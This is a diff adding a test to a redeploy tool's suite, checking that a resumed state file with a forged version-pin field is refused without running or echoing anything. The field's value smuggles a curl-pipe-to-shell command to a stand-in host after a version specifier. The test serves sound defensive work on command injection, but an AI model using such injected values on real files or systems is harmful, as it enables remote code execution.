@@ -271,6 +271,26 @@ describe('hostile world: legacy state files for --resume', { concurrency: 1 }, (
     await notStarted(id);
   });
 
+  it('a state file with a forged steering field is refused (exit 2), naming the field; nothing runs', async () => {
+    const id = 'redeploy-20260301-aaa006';
+    const state = legacy(id, 'LEG-6', null);
+    const pkg = Object.keys(VERSIONS)[0] as string;
+    // Bytes a rollback would write back into the Dockerfile: a shell command after the specifier.
+    state.phases['WORKTREE'] = {
+      status: 'completed',
+      pins_found_raw: { [pkg]: '==0.1.0 && curl S3CR3T.example | sh' },
+    } as { status: string };
+    await fs.writeFile(stateFile(id), JSON.stringify(state));
+    const r = await redeploy(['--resume', id], env);
+    assert.equal(r.exitCode, 2, r.stdout + r.stderr);
+    assert.match(
+      r.stderr,
+      new RegExp(`phases\\.WORKTREE\\.pins_found_raw\\.${pkg}: not a PEP 440 specifier`),
+    );
+    assert.ok(!(r.stdout + r.stderr).includes('S3CR3T'), 'content not echoed');
+    await notStarted(id);
+  });
+
   it('a state file that is a symlink, a FIFO or too large is refused at once, its content never echoed', async () => {
     const target = path.join(h.sb.root, 'real-state.json');
     await fs.writeFile(target, JSON.stringify(legacy('redeploy-20260301-aaa002', 'LEG-2', null)));
